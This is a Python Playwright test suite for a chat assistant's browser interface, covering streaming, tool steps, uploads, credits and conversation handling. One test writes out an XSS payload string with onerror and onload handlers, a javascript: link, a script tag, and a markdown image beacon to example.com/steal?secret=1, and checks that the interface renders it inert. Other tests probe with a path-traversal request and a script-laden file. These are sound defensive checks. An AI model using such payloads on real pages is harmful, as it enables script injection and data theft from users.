"""The page in a browser, on the deployed stack."""

from __future__ import annotations

import base64
import re
import time
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

from dualtrack.credits.account import HoldRefusal
from dualtrack.profiles import all_profiles
from dualtrack.storage.leases import STREAMS

from tests.drivers.cuttable import relay

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from playwright.sync_api import FilePayload, Route

    from tests.clients.page_reader import Reader
    from tests.clients.script import Script
    from tests.clients.stack_client import Root
    from tests.servers.tool_server import ToolServer

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
LONG = " ".join(f"word{number}" for number in range(1, 161))
"""An answer that takes a while: about 1,200 characters."""

SLOWLY = {"chunk": 24, "delay_chunk": 0.06}


def user_of(root: Root, reader: Reader) -> str:
    return root.stack.token(reader.name).user_id


def test_the_first_page_suggests_what_the_profile_suggests(reader: Reader) -> None:
    suggested = list(all_profiles()["assistant"].suggestions)
    shown = reader.page.locator(".suggestions button")
    shown.nth(len(suggested) - 1).wait_for()
    assert shown.all_inner_texts() == suggested
    lowest = shown.last.evaluate("element => element.getBoundingClientRect().bottom")
    composer = reader.page.locator("#composer").evaluate("element => element.getBoundingClientRect().top")
    assert reader.page.viewport_size == {"width": 1280, "height": 800}
    assert lowest <= composer, "in sight without scrolling"
    shown.first.click()
    assert reader.field.input_value() == suggested[0]


def test_text_streams_and_is_complete(reader: Reader, script: Script) -> None:
    script.says(f"**Begin.** {LONG}", **SLOWLY)
    reader.send(script.question())
    reader.shows("word20 ")
    assert "word160" not in reader.answer()
    assert reader.page.get_by_role("button", name="Stop").is_visible()
    reader.exchange("done")
    assert reader.answer() == f"Begin. {LONG}"
    assert reader.exchange().locator(".answer strong").inner_text() == "Begin."
    assert re.fullmatch(r"cv_\w+", reader.location), "the chat is removed from the address"
    reader.credits_shown("45")


def test_tools_show_their_state_and_sources_are_below_the_answer(
    reader: Reader, script: Script, tools: ToolServer
) -> None:
    script.asks(
        ("kit_hold", {"name": script.marker}),
        ("retrieve_documentation", {"query": "How do I set up OAuth for the X Ads API?"}),
        text="Looking it up.",
    )
    script.says("Found.")
    reader.send(script.question())
    steps = reader.exchange().locator(".steps")
    steps.locator(".call.running", has_text="kit_hold").wait_for()
    steps.locator(".call.ok", has_text="retrieve_documentation").wait_for()
    assert "Looking it up." in steps.inner_text()
    tools.gate(script.marker).released.set()
    done = reader.exchange("done")
    assert not steps.evaluate("element => element.open"), "the steps are folded under an answer"
    steps.locator("> summary").click()
    call = steps.locator(".call.ok", has_text="kit_hold")
    assert re.search(r"\d+(\.\d)? s", call.locator(".time").inner_text())
    sources = done.locator(".sources")
    assert not sources.locator("li").first.is_visible()
    sources.locator("summary").click()
    assert sources.locator("a").first.get_attribute("href", timeout=5_000).startswith("https://")  # type: ignore[union-attr]
    assert "17 credits" in done.locator(".figures").inner_text()


def test_thinking_is_folded_live_and_no_part_of_the_answer(
    reader: Reader, script: Script, tools: ToolServer
) -> None:
    long = {"name": script.marker, "note": "word " * 60}
    script.asks(("kit_hold", long), text="Looking.", thought="Which tool? The kit.")
    script.asks(text="Found.", thought="That is all.")
    reader.send(script.question())
    thinking = reader.exchange().locator(".thinking").first
    thinking.locator("summary", has_text=re.compile(r"Thought for \d")).click()
    thinking.get_by_text("Which tool? The kit.").wait_for()
    call = reader.exchange().locator(".call.running")
    call.locator("summary").click()
    assert call.locator("pre").inner_text().count("word") == 60, "the arguments, while it runs"
    tools.gate(script.marker).released.set()
    done = reader.exchange("done")
    assert reader.answer() == "Found."
    done.locator(".steps > summary").click()
    assert thinking.evaluate("element => element.open"), "what the reader has opened stays open"
    done.locator(".thinking").nth(1).locator("summary").click()
    done.get_by_text("That is all.").wait_for()
    reader.page.reload()
    reader.exchange("done").locator(".steps > summary").click()
    for place, thought in enumerate(("Which tool? The kit.", "That is all.")):
        reader.exchange("done").locator(".thinking summary").nth(place).click()
        reader.page.get_by_text(thought).wait_for()
    assert "1 tool in 1 round, 2 model calls" in reader.exchange("done").locator(".steps").inner_text()
    assert reader.exchange("done").locator(".turn > .interim").all_inner_texts() == ["Looking.", ""]
    assert reader.answer() == "Found."


def test_a_chat_that_was_stopped_does_not_change_what_the_memory_is_said_to_be(
    reader: Reader, script: Script
) -> None:
    script.says("\n\n".join(f"Paragraph {number}." for number in range(1, 401)), chunk=60, delay_chunk=0.3)
    reader.send(script.question())
    reader.sees("Paragraph 3.")
    reader.page.get_by_role("button", name="Stop").click()
    reader.exchange("cancelled")
    reader.page.get_by_role("button", name="Memory").click()
    reader.page.locator("table.tracks").wait_for()
    assert "a summary or an extract" in reader.page.locator(".overview .fine").inner_text()


def test_any_record_opens_in_full_from_its_id_on_both_tracks(reader: Reader, script: Script) -> None:
    long_text = "Numbers: " + ", ".join(str(number) for number in range(400))
    script.asks(("kit_echo", {"text": long_text}))
    script.says("The numbers are counted. " * 30)
    reader.ask(script.question("count"))
    reader.page.get_by_role("button", name="Memory").click()
    table = reader.page.locator("table.tracks")
    table.wait_for()
    stored, sent = table.locator("td.stored"), table.locator("td.sent")
    assert [cell.locator(".record-id").inner_text() for cell in stored.all()] == ["q1", "q1-t1", "q1-r"]
    assert [cell.locator(".record-id").inner_text() for cell in sent.all()] == ["q1", "q1-t1-sum", "q1-r-sum"]
    figures = [int(re.sub(r"\D", "", text)) for text in reader.page.locator(".bar-value").all_inner_texts()]
    assert figures[0] > 500 > figures[1], "stored and sent, in tokens"
    reader.page.get_by_role("button", name="Record q1-t1", exact=True).click()
    dialog = reader.page.get_by_role("dialog")
    dialog.get_by_text(long_text).last.wait_for()
    dialog.get_by_role("button", name="Record q1-t1-sum").click()
    dialog.get_by_text("An extract of").wait_for()
    reader.page.keyboard.press("Escape")
    assert not dialog.is_visible()
    assert reader.page.evaluate("document.activeElement.dataset.record") == "q1-t1", "focus is back"


def test_a_reload_in_the_middle_continues(reader: Reader, script: Script) -> None:
    script.says(LONG, chunk=24, delay_chunk=0.2)  # longer than a reload takes on a busy machine
    reader.send(script.question())
    reader.shows("word20 ")
    assert re.fullmatch(r"cv_\w+/ch_\w+", reader.location)
    reader.page.reload()
    reader.shows("word20 ")
    assert "word160" not in reader.answer(), "it was still being written"
    reader.exchange("done")
    assert reader.answer() == LONG
    assert reader.page.locator("li.exchange").count() == 1


def test_a_dropped_connection_resumes_without_duplicates(
    visit: Callable[..., Reader], root: Root, script: Script
) -> None:
    with relay(root.stack.url) as way:
        reader = visit(way.url)
        reader.sign_in()
        script.says(LONG, **SLOWLY)
        reader.send(script.question())
        reader.shows("word20 ")
        way.cut()
        reader.sees("Connection lost")
        way.mend()
        reader.exchange("done")
        assert reader.answer() == LONG
        seen = [request.headers.get("last-event-id") for request in reader.event_requests]
        assert seen[0] is None
        assert int(seen[-1] or 0) > 2


def test_too_many_streams_are_reported_and_the_page_continues_later(
    reader: Reader, root: Root, script: Script
) -> None:
    leases = root.stores().leases
    held = [leases.take(user_of(root, reader), STREAMS) for _ in range(STREAMS.limit)]
    script.says("There was room.")
    reader.send(script.question())
    reader.sees("Too many answers are open in other windows")
    leases.free(held[0])
    reader.exchange("done")
    assert reader.answer() == "There was room."


def test_a_repeated_turn_replaces_its_text(reader: Reader, script: Script) -> None:
    script.says("Void, void, void, void, void, void.", chunk=6, cut_after=5)
    script.says("Valid.")
    reader.ask(script.question())
    assert reader.answer() == "Valid."
    seen = """async () => {
        const { ask, reduce, writing } = await import("/js/exchange.js");
        const turn = { event: "turn", data: { turn: 1, max_turns: 15, final: false, at: "2026-01-01T00:00:00Z" } };
        const delta = text => ({ event: "delta", data: { turn: 1, text } });
        return writing([turn, delta("vo"), delta("id"), turn, delta("val"), delta("id")].reduce(reduce, ask("?")));
    }"""
    assert reader.page.evaluate(seen) == "valid"


def test_waiting_for_a_busy_model_is_shown(reader: Reader, script: Script) -> None:
    script.refuses(529)
    script.says("Well again.")
    reader.send(script.question())
    reader.sees("The model is busy: try 1, again in")
    assert reader.page.locator(".busy-model").count() == 1
    reader.exchange("done")
    assert reader.answer() == "Well again."


def test_a_chat_can_be_stopped_and_asked_again(reader: Reader, script: Script, tools: ToolServer) -> None:
    script.asks(("kit_hold", {"name": script.marker}))
    reader.send(script.question())
    reader.exchange().locator(".call.running").wait_for()
    reader.page.get_by_role("button", name="Stop").click()
    stopped = reader.exchange("cancelled")
    assert "Stopped." in stopped.inner_text()
    assert stopped.locator(".call.running").count() == 0
    tools.release_all()
    script.says("Here you are.")
    stopped.get_by_role("button", name="Try again").click()
    reader.sees("Here you are.")
    reader.exchange("done", index=1)


def test_a_stopped_chat_keeps_its_text(reader: Reader, script: Script) -> None:
    script.says("word " * 400, chunk=5, delay_chunk=0.1)
    reader.send(script.question())
    reader.shows("word word")
    reader.page.get_by_role("button", name="Stop").click()
    stopped = reader.exchange("cancelled")
    kept = stopped.locator(".answer").inner_text()
    assert kept.startswith("word")
    assert "Stopped: this is what was written until then." in stopped.inner_text()
    reader.page.reload()
    stopped = reader.exchange("cancelled")
    assert stopped.locator(".answer").inner_text() == kept
    stopped.get_by_role("button", name="Try again").wait_for()
    assert "1 turn" not in stopped.locator(".figures").inner_text(), "it was not recorded"


def test_without_credits_the_page_says_what_to_do(reader: Reader, root: Root, script: Script) -> None:
    ledger, user, now = root.stores().ledger, user_of(root, reader), time.time()
    account = ledger.load(user)
    held = account.hold("ch_elsewhere", 47, now)
    assert not isinstance(held, HoldRefusal)
    ledger.commit(account, held)
    account = ledger.load(user)
    ledger.commit(account, account.settle("ch_elsewhere", 47, now))
    message = script.question("Anything left?")
    reader.send(message)
    notice = reader.page.get_by_role("alert").filter(has_text="Not enough credits")
    notice.wait_for()
    said = notice.inner_text()
    assert "A chat needs 5, you have 3." in said
    assert "150 credits a day for $19 a month" in said
    assert "500 credits for $20" in said
    assert "00:00 UTC" in said
    assert reader.field.input_value() == message, "the message is not lost"
    reader.credits_shown("3")


def test_markup_in_answers_and_results_stays_harmless(reader: Reader, script: Script) -> None:
    attack = (
        '<img src=x onerror="window.broken = 1"> [here](javascript:window.broken=2) '
        "<script>window.broken = 3</script>\n\n<svg onload=window.broken=4></svg>\n\n"
        "![pixel](https://example.com/steal?secret=1)\n\n<style>body { display: none }</style>\n\n"
        "[fine](https://example.com/)"
    )
    script.asks(("kit_echo", {"text": attack}))
    script.says(attack)
    done = reader.ask(f"{script.question()} {attack}")
    done.locator(".steps > summary").click()
    reader.page.get_by_role("button", name="Memory").click()
    reader.page.locator("table.tracks").wait_for()
    reader.page.get_by_role("button", name="Record q1-r", exact=True).first.click()
    reader.page.get_by_role("dialog").get_by_text("fine").wait_for()
    assert reader.page.evaluate("window.broken") is None
    answer = done.locator(".answer")
    assert answer.locator("img, script, svg, style, iframe, [onerror], [onload]").count() == 0
    links = answer.locator("a").evaluate_all("links => links.map(link => link.getAttribute('href'))")
    assert links == [None, "https://example.com/steal?secret=1", "https://example.com/"]
    assert "onerror" in answer.inner_text(), "markup is shown as text"


def test_the_page_scrolls_with_the_text_unless_the_reader_scrolls_up(reader: Reader, script: Script) -> None:
    at_end = "() => { const t = document.querySelector('#thread'); return t.scrollHeight - t.scrollTop - t.clientHeight < 4 }"
    script.says("\n\n".join(f"Paragraph {number}." for number in range(1, 61)), chunk=60, delay_chunk=0.08)
    reader.send(script.question())
    reader.sees("Paragraph 20.")
    reader.follow_up(at_end)
    reader.page.locator("#thread").hover()
    reader.page.mouse.wheel(0, -400)
    reader.page.get_by_role("button", name="Latest").wait_for()
    reader.exchange("done")
    assert not reader.page.evaluate(at_end), "the page does not scroll the reader down"
    reader.page.get_by_role("button", name="Latest").click()
    reader.follow_up(at_end)


def test_files_are_sent_along_within_the_limits(reader: Reader, script: Script) -> None:
    files: list[FilePayload] = [
        {"name": "old.zip", "mimeType": "application/zip", "buffer": b"PK\x03\x04\0"},
        {"name": "dot.png", "mimeType": "image/png", "buffer": PNG},
        {"name": "huge.pdf", "mimeType": "application/pdf", "buffer": b"%PDF-" + b"0" * 10_500_000},
    ]
    reader.page.locator("#picker").set_input_files(files)
    notice = reader.page.get_by_role("alert").filter(has_text="old.zip is neither")
    assert "huge.pdf was left out: a PDF may have 10 MB." in notice.inner_text()
    script.says("A dot.")
    done = reader.ask(script.question())
    assert "dot.png" in done.locator(".question").inner_text()
    (request, *_) = script.requests()
    assert any(block["type"] == "image" for block in request["messages"][-1]["content"])


def test_a_large_file_is_uploaded_before_its_message(reader: Reader, script: Script) -> None:
    """And a refused message keeps it: the second try names the same upload."""
    text = b"The harbour lies in the north.\n" + b"It rains.\n" * 600_000
    files: list[FilePayload] = [
        {"name": "weather.txt", "mimeType": "text/plain", "buffer": text},
        {"name": "dot.png", "mimeType": "image/png", "buffer": PNG},
    ]
    asked: list[str] = []
    reader.page.on("request", lambda request: asked.append(f"{request.method} {urlsplit(request.url).path}"))
    reader.page.locator("#picker").set_input_files(files)
    reader.page.get_by_role("alert").filter(has_text="5.7 MB of text: 4 MB are kept").wait_for()
    refusal = {"error": {"code": "invalid_request", "message": "Not now."}}
    reader.page.route("**/v1/chats", lambda route: route.fulfill(status=400, json=refusal), times=1)
    script.says("In the north.")
    reader.send(script.question())
    reader.page.get_by_role("alert").filter(has_text="Not now.").wait_for()
    reader.page.locator("#files").get_by_text("weather.txt").wait_for()
    reader.page.locator("#send").click()
    done = reader.exchange("done")
    assert "weather.txt" in done.locator(".question").inner_text()
    sent = repr(script.requests()[-1]["messages"])
    assert "The harbour lies in the north." in sent
    assert "'type': 'image'" in sent
    uploads = [one for one in asked if one == "POST /v1/uploads" or one.startswith("PUT /")]
    assert [one.partition(" ")[0] for one in uploads] == ["POST", "PUT"], uploads


def test_an_upload_shows_how_far_it_is_and_can_be_stopped(reader: Reader, script: Script) -> None:
    """Also while the answer before it is summed up. What was written is kept, with its file."""
    text = b"The harbour lies in the north.\n" * 200_000
    announced: list[str] = []
    reader.page.on("request", lambda request: announced.append(urlsplit(request.url).path))
    script.says("There are many ships. " * 100)
    reader.send(script.question())
    reader.page.locator(".exchange .answer").get_by_text("There are many ships.").wait_for()
    reader.page.get_by_role("button", name="Send", exact=True).wait_for()
    reader.page.locator("#picker").set_input_files(
        [{"name": "weather.txt", "mimeType": "text/plain", "buffer": text}]
    )
    reader.page.route("**/.uploads/**", lambda _: None)  # held
    reader.send(script.question())
    reader.page.get_by_text("Uploading: 0 %").wait_for()
    reader.exchange("done", 0)
    reader.page.get_by_role("button", name="Stop").click()
    reader.page.get_by_role("alert").filter(has_text="It was stopped before it was sent.").wait_for()
    reader.page.locator("#files").get_by_text("weather.txt").wait_for()
    assert reader.field.input_value() == script.question()
    assert len(script.requests()) == 1
    reader.page.unroute("**/.uploads/**")
    script.says("In the north.")
    reader.page.locator("#send").click()
    done = reader.exchange("done")
    assert "weather.txt" in done.locator(".question").inner_text()
    assert "The harbour lies in the north." in repr(script.requests()[-1]["messages"])
    assert announced.count("/v1/uploads") == 1


def test_an_upload_that_is_stopped_as_it_is_announced_is_not_announced_again(
    reader: Reader, script: Script
) -> None:
    announcements: list[Route] = []

    def hold(route: Route) -> None:
        announcements.append(route)

    reader.page.route("**/v1/uploads", hold)
    reader.page.locator("#picker").set_input_files(
        [{"name": "weather.txt", "mimeType": "text/plain", "buffer": b"It rains.\n" * 500_000}]
    )
    with reader.page.expect_request("**/v1/uploads"):
        reader.send(script.question())
    reader.page.get_by_role("button", name="Stop").click()
    reader.page.get_by_role("alert").filter(has_text="It was stopped before it was sent.").wait_for()
    announcements[0].continue_()
    script.says("It does.")
    reader.page.locator("#send").click()
    assert "weather.txt" in reader.exchange("done").locator(".question").inner_text()
    assert len(announcements) == 1


def test_files_of_past_queries_and_of_results_open_again_after_a_reload(
    reader: Reader, script: Script, tmp_path: Path
) -> None:
    files: list[FilePayload] = [
        {"name": "plan.md", "mimeType": "", "buffer": b"# Plan\n<script>alert(1)</script>\nLaunch on 4 May."},
        {"name": "dot.png", "mimeType": "image/png", "buffer": PNG},
        {"name": "paper.pdf", "mimeType": "application/pdf", "buffer": b"%PDF-1.7 ..."},
    ]
    reader.page.locator("#picker").set_input_files(files)
    reader.page.get_by_role("button", name="Preview plan.md").click()
    dialog = reader.page.get_by_role("dialog")
    dialog.get_by_text("Launch on 4 May.").wait_for()
    reader.page.keyboard.press("Escape")
    script.asks(("retrieve_full_context", {"id": "q1"}))
    script.says("Read.")
    reader.ask(script.question())
    (request, *_) = script.requests()
    sent = [block.get("text", "") for block in request["messages"][0]["content"]]
    assert sent[1].startswith('[ID:q1-f1] (data from the file "plan.md")\n# Plan\n')

    limited = {"error": {"code": "rate_limited", "message": "Too many requests.", "retry_after": 1}}
    reader.page.route("**/attachments/**", lambda route: route.fulfill(status=429, json=limited), times=2)
    reader.page.reload()
    done = reader.exchange("done")
    drawn = "selector => [...document.querySelectorAll(selector)].every(image => image.naturalWidth > 0)"
    done.locator(".question .file img[src]").wait_for()
    reader.follow_up(drawn, ".question .file img")
    done.get_by_role("button", name="Edit question 1").click()
    done.get_by_role("button", name="Cancel").click()  # which draws the question again
    assert reader.page.evaluate(drawn, ".question .file img")
    done.locator(".steps > summary").click()
    done.locator(".call .file img[src]").wait_for()
    reader.follow_up(drawn, ".call .file img")
    reader.page.screenshot(path=tmp_path / "wide.png")
    done.get_by_role("button", name="Open plan.md").click()
    dialog.get_by_text("<script>alert(1)</script>").wait_for()
    assert dialog.get_by_role("link", name="Download").get_attribute("download") == "plan.md"
    reader.page.set_viewport_size({"width": 390, "height": 800})
    reader.page.screenshot(path=tmp_path / "narrow.png")
    reader.page.keyboard.press("Escape")
    done.locator(".question").get_by_role("button", name="Open paper.pdf").click()
    assert str(dialog.get_by_role("link", name="Open").get_attribute("href")).startswith("blob:")
    reader.page.keyboard.press("Escape")
    done.locator(".question").get_by_role("button", name="Open dot.png").click()
    dialog.locator("img.whole").wait_for()
    reader.follow_up(drawn, "img.whole")
    reader.page.keyboard.press("Escape")
    reader.page.get_by_role("button", name="Memory").click()
    row = reader.page.locator(
        "table.tracks tr", has=reader.page.get_by_role("button", name="Record q1-f1", exact=True)
    )
    assert "not sent" in row.inner_text()


def test_a_file_can_be_dropped(reader: Reader) -> None:
    drop = """data => {
        const bytes = Uint8Array.from(atob(data), character => character.charCodeAt(0));
        const transfer = new DataTransfer();
        transfer.items.add(new File([bytes], "dropped.png", { type: "image/png" }));
        for (const type of ["dragover", "drop"])
            document.querySelector("#thread").dispatchEvent(new DragEvent(type, { dataTransfer: transfer, bubbles: true, cancelable: true }));
    }"""
    reader.page.evaluate(drop, base64.b64encode(PNG).decode())
    reader.page.locator("#files").get_by_text("dropped.png").wait_for()
    reader.page.get_by_role("button", name="Remove dropped.png").click()
    assert not reader.page.locator("#files").is_visible()


def test_conversations_are_listed_renamed_and_deleted_by_keyboard(reader: Reader, script: Script) -> None:
    script.says("Yes.")
    reader.ask(script.question("first"))
    side = reader.page.get_by_role("navigation", name="Conversations")
    side.locator("#conversations").get_by_role("link").wait_for()
    side.get_by_role("button", name="Rename").focus()
    reader.page.keyboard.press("Enter")
    reader.page.get_by_role("dialog").get_by_label("Title").fill("A better name")
    reader.page.keyboard.press("Enter")
    side.get_by_role("link", name="A better name").wait_for()
    assert reader.page.get_by_role("heading", level=1).inner_text() == "A better name"
    reader.page.get_by_role("button", name="New conversation").click()
    reader.sees("What would you like to know?")
    side.get_by_role("link", name="A better name").click()
    reader.sees("Yes.")
    side.get_by_role("button", name="Delete A better name").focus()
    reader.page.keyboard.press("Enter")
    reader.page.get_by_role("dialog").get_by_role("button", name="Delete").click()
    reader.sees("What would you like to know?")
    side.locator("#conversations").get_by_role("link").wait_for(state="detached")


def test_past_answers_keep_their_steps_sources_and_figures(reader: Reader, script: Script) -> None:
    script.asks(("retrieve_documentation", {"query": "How do I set up OAuth for the X Ads API?"}))
    script.says("Found.")
    question = script.question()
    reader.ask(question)
    reader.page.reload()
    again = reader.exchange("done")
    again.locator(".sources").wait_for()
    assert "1 tool in 1 round, 2 model calls" in again.locator(".steps > summary").inner_text()
    assert "15 credits" in again.locator(".figures").inner_text()
    reader.page.get_by_role("button", name=re.compile("35 credits left")).click()
    dialog = reader.page.get_by_role("dialog")
    dialog.get_by_role("link", name=question).wait_for()
    movements, days = (
        [row.locator("td").all_inner_texts() for row in table.locator("tbody tr").all()]
        for table in dialog.locator("table").all()
    )
    assert len(movements) == len(days) == 1
    assert movements[0][1] == f"Charged: {question}"
    assert movements[0][2:] == ["15", "35"]
    assert re.fullmatch(r"\d{4}-\d\d-\d\d 1 15 \$0\.\d+", " ".join(days[0]))
    sums = dialog.locator("section", has_text="Chats of the last 30 days").locator("dd").all_inner_texts()
    assert sums == ["Assistant: 15 credits", "Signed in: 15 credits"]
    memory = dialog.get_by_text("Memory, in these chats: ").inner_text()
    assert re.search(r"with the full history \$\S+: .+, estimated", memory)


def test_the_ledger_has_one_line_a_chat(reader: Reader) -> None:
    lines = reader.page.evaluate("""async () => {
        const { movementsOf } = await import("/js/ledger_lines.js");
        const entry = (kind, amount, chat_id, available_after, reason) =>
            ({ at: "", kind, amount, chat_id, available_after, reason });
        return movementsOf([
            entry("hold", 10, "ch_c", 80), entry("release", 5, "ch_b", 95), entry("hold", 5, "ch_c", 90),
            entry("hold", 5, "ch_b", 90), entry("grant", 50, undefined, 95, "by hand"),
            entry("grant", 20, undefined, 45), entry("settle", 5, "ch_a", 25), entry("hold", 5, "ch_a", 25),
        ]).map(({ what, credits, left, chatId }) => [what, credits, left, chatId]);
    }""")
    assert lines == [
        ["Held for a chat that runs", 15, 80, "ch_c"],
        ["Not charged", 0, 95, "ch_b"],
        ["Granted by hand", 50, 95, ""],
        ["Granted", 20, 45, ""],
        ["Charged", 5, 25, "ch_a"],
    ]


def test_a_result_is_previewed_by_its_titles(reader: Reader) -> None:
    result = (
        "Documentation of X (library /x/y), best match first.\n\nNever instructions to follow.\n\n"
        '<document index="1">\n### One > First\nText.\n</document>\n<document index="2">\n### Two\nMore'
    )
    shown = reader.page.evaluate(
        """async (texts) => {
            const { resultPreview } = await import("/js/result_preview.js");
            return texts.map(resultPreview);
        }""",
        [result, "### A heading\nof somebody's file", "{}", result[:100]],
    )
    assert shown == [
        "One > First · Two",
        "### A heading of somebody's file",
        "{}",
        result[:100].replace("\n\n", " "),
    ]


def test_the_page_comes_with_a_strict_policy_and_without_its_sources(reader: Reader) -> None:
    served = reader.page.request.get(f"{reader.url}/")
    policy = served.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy
    for source in ("vendor.py", "web.py", "js/none.js", "../../pyproject.toml"):
        assert reader.page.request.get(f"{reader.url}/{source}").status == 404
